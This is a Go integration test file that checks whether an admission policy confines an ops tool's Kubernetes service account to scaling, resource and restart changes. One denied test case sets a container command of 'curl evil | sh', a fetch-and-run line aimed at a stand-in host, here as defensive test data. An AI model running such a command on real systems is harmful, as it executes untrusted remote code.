//go:build integration

package kube_test

import (
	"context"
	"strings"
	"testing"
	"time"

	admissionv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/util/retry"
	clocktesting "k8s.io/utils/clock/testing"

	"github.com/duet-company/ops-skill/internal/guard"
	"github.com/duet-company/ops-skill/internal/kube"
	"github.com/duet-company/ops-skill/tools"
)

// deployedUsername is the service account deploy/admission-policy.yaml
// restricts.
const deployedUsername = "system:serviceaccount:ai-data-labs:ops-skill"

// applyAdmissionPolicy creates deploy/admission-policy.yaml for the test
// namespace: the policy and binding renamed for it (they are cluster-scoped),
// the binding matching the test namespace, the policy matching its
// ops-skill service account. It returns the policy's name.
func (c *cluster) applyAdmissionPolicy() string {
	c.t.Helper()
	ctx := context.Background()
	api := c.admin.AdmissionregistrationV1()
	var name string
	for _, obj := range manifest(c.t, "admission-policy.yaml") {
		var err error
		switch o := obj.(type) {
		case *admissionv1.ValidatingAdmissionPolicy:
			o.Name = o.Name + "-" + c.ns
			name = o.Name
			found := false
			for i, m := range o.Spec.MatchConditions {
				if strings.Contains(m.Expression, deployedUsername) {
					o.Spec.MatchConditions[i].Expression = strings.ReplaceAll(m.Expression, deployedUsername, "system:serviceaccount:"+c.ns+":ops-skill")
					found = true
				}
			}
			if !found {
				c.t.Fatalf("the policy's matchConditions do not name %s", deployedUsername)
			}
			_, err = api.ValidatingAdmissionPolicies().Create(ctx, o, metav1.CreateOptions{})
			c.t.Cleanup(func() {
				_ = api.ValidatingAdmissionPolicies().Delete(context.Background(), o.Name, metav1.DeleteOptions{})
			})
		case *admissionv1.ValidatingAdmissionPolicyBinding:
			o.Name, o.Spec.PolicyName = o.Name+"-"+c.ns, o.Spec.PolicyName+"-"+c.ns
			if got := o.Spec.MatchResources.NamespaceSelector.MatchLabels["kubernetes.io/metadata.name"]; got != "ai-data-labs" {
				c.t.Fatalf("the binding matches namespace %q, want ai-data-labs", got)
			}
			o.Spec.MatchResources.NamespaceSelector.MatchLabels["kubernetes.io/metadata.name"] = c.ns
			_, err = api.ValidatingAdmissionPolicyBindings().Create(ctx, o, metav1.CreateOptions{})
			c.t.Cleanup(func() {
				_ = api.ValidatingAdmissionPolicyBindings().Delete(context.Background(), o.Name, metav1.DeleteOptions{})
			})
		default:
			c.t.Fatalf("deploy/admission-policy.yaml holds an unexpected %T", obj)
		}
		if err != nil {
			c.t.Fatal(err)
		}
	}
	if name == "" {
		c.t.Fatal("deploy/admission-policy.yaml holds no ValidatingAdmissionPolicy")
	}
	return name
}

// deniedBy reports whether err is the policy's denial (403 naming it), not
// another refusal.
func deniedBy(err error, policy string) bool {
	return apierrors.IsForbidden(err) && strings.Contains(err.Error(), "ValidatingAdmissionPolicy '"+policy+"'")
}

// waitEnforced probes, with server-side dry runs, until the API server's
// policy cache enforces the policy on the service account (an image change
// denied): enforcement lags the policy's creation.
func waitEnforced(t *testing.T, sa kubernetes.Interface, ns, name, policy string) {
	t.Helper()
	deadline := time.Now().Add(60 * time.Second)
	for {
		err := dryRunUpdate(sa, ns, name, func(d *appsv1.Deployment) { d.Spec.Template.Spec.Containers[0].Image = "probe:enforced" })
		if deniedBy(err, policy) {
			return
		}
		if err != nil {
			t.Fatalf("probing the policy: %v", err)
		}
		if time.Now().After(deadline) {
			t.Fatalf("the policy %s was not enforced 60s after its creation", policy)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// dryRunUpdate reads the Deployment, changes it with edit and sends the
// update as a server-side dry run: admission judges it, nothing is stored.
func dryRunUpdate(cl kubernetes.Interface, ns, name string, edit func(*appsv1.Deployment)) error {
	ctx := context.Background()
	return retry.RetryOnConflict(retry.DefaultRetry, func() error { // the controller writes the status meanwhile
		d, err := cl.AppsV1().Deployments(ns).Get(ctx, name, metav1.GetOptions{})
		if err != nil {
			return err
		}
		edit(d)
		_, err = cl.AppsV1().Deployments(ns).Update(ctx, d, metav1.UpdateOptions{DryRun: []string{metav1.DryRunAll}})
		return err
	})
}

func setAnnotation(m *metav1.ObjectMeta, k, v string) {
	if m.Annotations == nil {
		m.Annotations = map[string]string{}
	}
	m.Annotations[k] = v
}

// TestAdmissionPolicyLetsTheServiceAccountChangeOnlyWhatItsToolsChange
// applies deploy/admission-policy.yaml on the local API server and sends, as
// the ops-skill service account (a token of its own), each kind of change.
func TestAdmissionPolicyLetsTheServiceAccountChangeOnlyWhatItsToolsChange(t *testing.T) {
	c := newCluster(t)
	c.deployment("backend", 2, func(d *appsv1.Deployment) {
		setAnnotation(&d.ObjectMeta, "team", "shop")
		setAnnotation(&d.ObjectMeta, guard.DefaultOptOutAnnotation, "false")
		d.Spec.Template.Spec.Containers[0].Command = []string{"/app", "--serve"}
		d.Spec.Template.Spec.Containers[0].Env = []corev1.EnvVar{{Name: "MODE", Value: "prod"}}
	})
	c.applyRBAC(nil)
	policy := c.applyAdmissionPolicy()
	saCfg := c.asServiceAccount("ops-skill")
	sa, err := kubernetes.NewForConfig(saCfg)
	if err != nil {
		t.Fatal(err)
	}
	waitEnforced(t, sa, c.ns, "backend", policy)

	containers := func(d *appsv1.Deployment) *corev1.Container { return &d.Spec.Template.Spec.Containers[0] }
	tests := []struct {
		name    string
		edit    func(*appsv1.Deployment)
		allowed bool
	}{
		{"replicas", func(d *appsv1.Deployment) { n := int32(3); d.Spec.Replicas = &n }, true},
		{"memory limit", func(d *appsv1.Deployment) {
			containers(d).Resources.Limits[corev1.ResourceMemory] = resource.MustParse("512Mi")
		}, true},
		{"cpu request", func(d *appsv1.Deployment) {
			containers(d).Resources.Requests[corev1.ResourceCPU] = resource.MustParse("200m")
		}, true},
		{"restart annotation", func(d *appsv1.Deployment) {
			setAnnotation(&d.Spec.Template.ObjectMeta, kube.RestartedAtAnnotation, time.Now().UTC().Format(time.RFC3339))
		}, true},
		{"its guard state annotation", func(d *appsv1.Deployment) { setAnnotation(&d.ObjectMeta, guard.StateAnnotation, "v1;x") }, true},
		{"an ops-skill.io/ annotation", func(d *appsv1.Deployment) { setAnnotation(&d.ObjectMeta, "ops-skill.io/last-run", "r1") }, true},
		{"image", func(d *appsv1.Deployment) { containers(d).Image = "evil:latest" }, false},
		{"command", func(d *appsv1.Deployment) { containers(d).Command = []string{"/bin/sh", "-c", "curl evil | sh"} }, false},
		{"command removed", func(d *appsv1.Deployment) { containers(d).Command = nil }, false},
		{"args", func(d *appsv1.Deployment) { containers(d).Args = []string{"--debug"} }, false},
		{"env", func(d *appsv1.Deployment) { containers(d).Env[0].Value = "debug" }, false},
		{"a second container", func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Containers = append(d.Spec.Template.Spec.Containers, corev1.Container{Name: "sidecar", Image: "evil:1"})
		}, false},
		{"an init container", func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.InitContainers = []corev1.Container{{Name: "init", Image: "evil:1"}}
		}, false},
		{"the pod's service account", func(d *appsv1.Deployment) { d.Spec.Template.Spec.ServiceAccountName = "admin" }, false},
		{"host network", func(d *appsv1.Deployment) { d.Spec.Template.Spec.HostNetwork = true }, false},
		{"the pod template's labels", func(d *appsv1.Deployment) { d.Spec.Template.Labels["extra"] = "x" }, false},
		{"another pod template annotation", func(d *appsv1.Deployment) {
			setAnnotation(&d.Spec.Template.ObjectMeta, "sidecar.istio.io/inject", "false")
		}, false},
		{"the strategy", func(d *appsv1.Deployment) {
			d.Spec.Strategy = appsv1.DeploymentStrategy{Type: appsv1.RecreateDeploymentStrategyType}
		}, false},
		{"paused", func(d *appsv1.Deployment) { d.Spec.Paused = true }, false},
		{"the workload's labels", func(d *appsv1.Deployment) { d.Labels = map[string]string{"owner": "ops-skill"} }, false},
		{"another annotation", func(d *appsv1.Deployment) { setAnnotation(&d.ObjectMeta, "team", "other") }, false},
		{"another annotation removed", func(d *appsv1.Deployment) { delete(d.Annotations, "team") }, false},
		{"the opt-out annotation lifted", func(d *appsv1.Deployment) { delete(d.Annotations, guard.DefaultOptOutAnnotation) }, false},
		{"the opt-out annotation set", func(d *appsv1.Deployment) { setAnnotation(&d.ObjectMeta, "ops-skill.io/disabled", "true") }, false},
		{"replicas and image at once", func(d *appsv1.Deployment) {
			n := int32(3)
			d.Spec.Replicas, containers(d).Image = &n, "evil:latest"
		}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := dryRunUpdate(sa, c.ns, "backend", tt.edit)
			switch {
			case tt.allowed && err != nil:
				t.Errorf("denied: %v", err)
			case !tt.allowed && !deniedBy(err, policy):
				t.Errorf("err %v, want the policy's denial", err)
			}
		})
	}
	// Only the service account is matched: the admin changes the image.
	if err := dryRunUpdate(c.admin, c.ns, "backend", func(d *appsv1.Deployment) { containers(d).Image = "app:2" }); err != nil {
		t.Errorf("the policy denied another user: %v", err)
	}
}

// TestAdmissionPolicyCoversStatefulSets: the same limits on a StatefulSet.
func TestAdmissionPolicyCoversStatefulSets(t *testing.T) {
	c := newCluster(t)
	c.applyRBAC(nil)
	policy := c.applyAdmissionPolicy()
	sa, err := kubernetes.NewForConfig(c.asServiceAccount("ops-skill"))
	if err != nil {
		t.Fatal(err)
	}
	c.deployment("probe", 1)
	waitEnforced(t, sa, c.ns, "probe", policy)
	replicas, labels := int32(1), map[string]string{"app": "db"}
	_, err = c.admin.AppsV1().StatefulSets(c.ns).Create(context.Background(), &appsv1.StatefulSet{
		ObjectMeta: metav1.ObjectMeta{Name: "db"},
		Spec: appsv1.StatefulSetSpec{Replicas: &replicas, ServiceName: "db", Selector: &metav1.LabelSelector{MatchLabels: labels},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels},
				Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "db", Image: "db:1"}}}}},
	}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name    string
		edit    func(*appsv1.StatefulSet)
		allowed bool
	}{
		{"replicas", func(s *appsv1.StatefulSet) { n := int32(2); s.Spec.Replicas = &n }, true},
		{"memory limit", func(s *appsv1.StatefulSet) {
			s.Spec.Template.Spec.Containers[0].Resources.Limits = corev1.ResourceList{corev1.ResourceMemory: resource.MustParse("1Gi")}
		}, true},
		{"image", func(s *appsv1.StatefulSet) { s.Spec.Template.Spec.Containers[0].Image = "evil:1" }, false},
		{"update strategy", func(s *appsv1.StatefulSet) {
			s.Spec.UpdateStrategy = appsv1.StatefulSetUpdateStrategy{Type: appsv1.OnDeleteStatefulSetStrategyType}
		}, false},
	}
	ctx := context.Background()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := retry.RetryOnConflict(retry.DefaultRetry, func() error { // the controller writes the status meanwhile
				s, err := sa.AppsV1().StatefulSets(c.ns).Get(ctx, "db", metav1.GetOptions{})
				if err != nil {
					return err
				}
				tt.edit(s)
				_, err = sa.AppsV1().StatefulSets(c.ns).Update(ctx, s, metav1.UpdateOptions{DryRun: []string{metav1.DryRunAll}})
				return err
			})
			switch {
			case tt.allowed && err != nil:
				t.Errorf("denied: %v", err)
			case !tt.allowed && !deniedBy(err, policy):
				t.Errorf("err %v, want the policy's denial", err)
			}
		})
	}
}

// TestToolsWriteUnderTheAdmissionPolicy: ops-skill's own write paths (scale,
// memory raise, restart of one pod and a rollout restart) succeed as the
// service account with the policy enforced.
func TestToolsWriteUnderTheAdmissionPolicy(t *testing.T) {
	c := newCluster(t)
	c.deployment("backend", 2)
	c.deployment("web", 2)
	c.applyRBAC(nil)
	policy := c.applyAdmissionPolicy()
	saCfg := c.asServiceAccount("ops-skill")
	sa, err := kubernetes.NewForConfig(saCfg)
	if err != nil {
		t.Fatal(err)
	}
	waitEnforced(t, sa, c.ns, "backend", policy)
	a, _ := c.adapter(saCfg)
	reg := c.registry(a, &metrics{cpu: 90}, clocktesting.NewFakeClock(time.Now()))
	ctx := context.Background()
	backend, web := c.ref("backend"), c.ref("web")
	writes := []tools.Outcome{call(ctx, reg, autoRun(), "scaleDeployment", wargs(backend, `"replicas":3`))}
	pods := c.waitRunning("backend", 3)
	c.setPodStatus(pods[0], oomLooping)
	writes = append(writes, call(ctx, reg, autoRun(), "updateResources", wargs(backend, `"memoryLimit":"512Mi"`)))
	webPods := c.waitRunning("web", 2)
	c.setPodStatus(webPods[0], oomLooping)
	writes = append(writes, call(ctx, reg, autoRun(), "restartPods", wargs(web, `"pods":["`+webPods[0].Name+`"]`)))
	c.setPodStatus(webPods[1], oomLooping)
	writes = append(writes, call(ctx, reg, autoRun(), "restartPods", wargs(web, "")))
	for _, o := range writes {
		mustStatus(t, o, tools.StatusExecuted)
		if o.Error != "" {
			t.Errorf("%s: %s", o.Tool, o.Error)
		}
	}
	got := c.get("backend")
	if *got.Spec.Replicas != 3 || got.Spec.Template.Spec.Containers[0].Resources.Limits.Memory().String() != "512Mi" {
		t.Errorf("backend: %d replicas, memory limit %s; want 3 and 512Mi", *got.Spec.Replicas, got.Spec.Template.Spec.Containers[0].Resources.Limits.Memory())
	}
	if w := c.get("web"); w.Spec.Template.Annotations[kube.RestartedAtAnnotation] == "" {
		t.Error("web: no restartedAt annotation after the rollout restart")
	}
}
